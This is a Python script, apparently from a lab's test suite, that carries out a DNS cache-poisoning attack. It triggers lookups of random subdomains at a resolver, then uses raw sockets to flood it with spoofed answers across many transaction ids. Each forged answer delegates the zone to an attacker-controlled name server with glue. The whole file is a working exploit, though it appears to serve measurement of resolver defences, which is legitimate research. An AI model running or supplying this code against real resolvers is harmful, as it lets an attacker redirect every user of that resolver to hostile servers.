"""Forges a server's answers to a resolver, all ids one after another; run by the lab on a host of its own, as root.

    python -m lab.forger RESOLVER PORT SERVER ZONE OWN_ADDRESS COUNT

Makes the resolver ask for a new name, sends 1,000 answers to PORT, and so on until COUNT are sent; prints as JSON how
many, and when the first and the 200th left. Needs the standard library only.
"""

from __future__ import annotations

import json
import random
import socket
import struct
import sys
import time

from .responder import packet

PER_NAME = 1000


def wire_name(name: str) -> bytes:
    """Return a name as it is on the wire."""
    return b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"


def forged(name: str, zone: str, address: str) -> bytes:
    """Return an answer without its id: an address, and the attacker's as that of the zone's name server."""
    rdata = wire_name(f"ns.{zone}")
    answer = wire_name(name) + struct.pack("!HHIH", 1, 1, 86400, 4) + socket.inet_aton(address)
    authority = wire_name(zone) + struct.pack("!HHIH", 2, 1, 86400, len(rdata)) + rdata
    glue = rdata + struct.pack("!HHIH", 1, 1, 86400, 4) + socket.inet_aton(address)
    header = struct.pack("!HHHHH", 0x8400, 1, 1, 1, 1)
    return header + wire_name(name) + struct.pack("!HH", 1, 1) + answer + authority + glue


def main() -> None:
    resolver, port, server, zone, own, wanted = sys.argv[1:]
    dice = random.Random(1)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    times: list[float] = []
    while len(times) < int(wanted):
        name = f"{dice.randrange(10**9):09}.{zone}"
        question = struct.pack("!HHHHHH", 1, 0x0100, 1, 0, 0, 0) + wire_name(name) + struct.pack("!HH", 1, 1)
        client.sendto(question, (resolver, 53))
        # So that the resolver has asked before the first answer comes.
        time.sleep(0.01)
        rest = forged(name, zone, own)
        for number in dice.sample(range(65536), min(PER_NAME, int(wanted) - len(times))):
            payload = number.to_bytes(2, "big") + rest
            times.append(time.time())
            raw.sendto(packet((server, 53), (resolver, int(port)), payload, ttl=57), (resolver, 0))
    print(json.dumps({"sent": len(times), "first": times[0], "two_hundredth": times[min(199, len(times) - 1)]}))


if __name__ == "__main__":
    main()
